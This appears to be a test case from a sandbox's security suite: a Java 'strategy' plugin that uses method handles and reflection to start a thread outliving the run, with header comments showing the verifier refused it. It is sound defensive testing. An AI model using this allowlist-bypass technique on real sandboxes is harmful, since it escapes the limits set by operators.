// id: J193
// family: handles
// goal: start a thread that outlives the run by handles alone
// refused: JAVA_METHOD_NOT_LISTED
// verifier: JAVA_METHOD_NOT_LISTED
// unverified: COMPLETED
// harmless: a thread of the worker, which ends with it; it has no steps to spend
// control: got-in

import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import dev.glovebox.strategy.Bar;
import dev.glovebox.strategy.Context;
import dev.glovebox.strategy.Strategy;

public final class Attack extends Strategy {
  private static Object call(String owner, String name, String type, Object... given) throws Throwable {
    Class<?> found = Class.forName(owner, true, null);
    MethodType method = MethodType.fromMethodDescriptorString(type, null);
    return MethodHandles.publicLookup().findStatic(found, name, method).invokeWithArguments(given);
  }

  private static Object on(Object self, String owner, String name, String type, Object... given) throws Throwable {
    Class<?> found = Class.forName(owner, true, null);
    MethodType method = MethodType.fromMethodDescriptorString(type, null);
    return MethodHandles.lookup().findVirtual(found, name, method).bindTo(self).invokeWithArguments(given);
  }

  @SuppressWarnings({"finally", "unused"})
  public String attack() throws Exception {
    try {
      Runnable task = () -> {};
      Object builder = call("java.lang.Thread", "ofPlatform", "()Ljava/lang/Thread$Builder$OfPlatform;");
      Object thread = on(builder, "java.lang.Thread$Builder", "start", "(Ljava/lang/Runnable;)Ljava/lang/Thread;", task);
      return "GOT-IN " + thread;
    } catch (Throwable e) {
      return "REFUSED " + e;
    }
  }

  @Override
  public void onBar(Context ctx, Bar bar) {
    try {
      ctx.log(attack());
    } catch (Exception e) {
      ctx.log("REFUSED");
    }
  }
}
